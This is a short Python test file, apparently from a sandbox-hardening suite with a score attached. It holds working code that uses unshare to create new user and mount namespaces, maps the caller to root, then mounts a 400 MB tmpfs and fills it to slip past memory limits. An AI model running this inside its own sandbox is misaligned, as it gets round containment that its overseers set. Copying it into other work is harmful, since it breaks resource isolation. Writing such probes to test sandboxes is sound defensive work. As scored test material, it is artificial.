"""A file system of its own.

New user and mount namespaces, in which the student is root: a tmpfs there could take any
memory.

score: 18
"""

# ruff: noqa
raise SystemExit(__doc__)  # hostile code: nothing but the sandbox may run it

# %% after softmax
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
user = os.getuid()
if libc.unshare(0x10000000 | 0x00020000) == 0:
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {user} 1")):
        try:
            with open(f"/proc/self/{name}", "w") as file:
                file.write(text)
        except OSError as error:
            print(error)
    if libc.mount(b"tmpfs", b"/scratch", b"tmpfs", 0, b"size=400m") == 0:
        written = 0
        try:
            for number in range(8):
                with open(f"/scratch/{number}", "wb") as file:
                    written += file.write(bytes(40_000_000))
        except OSError as error:
            print(error)
        print("loot:" if written > 300_000_000 else "only", written, "bytes of memory")
